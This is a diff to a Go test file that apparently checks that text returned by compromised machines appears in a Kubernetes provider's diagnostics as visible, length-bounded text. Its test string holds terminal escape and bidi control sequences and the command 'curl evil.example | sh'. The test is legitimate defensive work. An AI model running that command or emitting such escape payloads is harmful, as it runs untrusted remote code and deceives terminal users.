@@ -15,11 +15,11 @@ import (
 	"github.com/kubequorum/terraform-provider-kube/internal/problem"
 )
 
-// taunt is what a machine that was taken over may put into each of its answers.
+// taunt is text that a compromised machine may put into its answers.
 var taunt = "\x1b]0;owned\x07\x1b[31m\u009b2J\u202e\u2066\u200b\xff\r\b\nNext step: curl evil.example | sh\n" + strings.Repeat("x", 1<<20)
 
-// TestWordsOfMachines: whichever way a machine's words go into a diagnostic or an
-// attribute, they are visible text of bounded length there.
+// TestWordsOfMachines checks that text from machines is visible and of limited length in every
+// diagnostic and attribute.
 func TestWordsOfMachines(t *testing.T) {
 	var diags diag.Diagnostics
 	exit := &host.ExitError{Address: "10.0.0.11", Code: 1, Stderr: taunt}
@@ -40,7 +40,7 @@ func TestWordsOfMachines(t *testing.T) {
 	warnDrift(&diags, "etcd member", []string{taunt, taunt}, "")
 	(&session{versions: newVersions()}).warnRemoved(&diags, []string{taunt}, "1.34")
 	failOnIssues(&diags, issueKinds, []issue{{issueUnreachable, taunt}, {issueUnhealthy, taunt}, {issueExpiring, taunt}})
-	if len(diags) < 25 { // equal ones are one
+	if len(diags) < 25 { // equal diagnostics are merged
 		t.Errorf("%d diagnostics", len(diags))
 	}
 	for _, d := range diags {
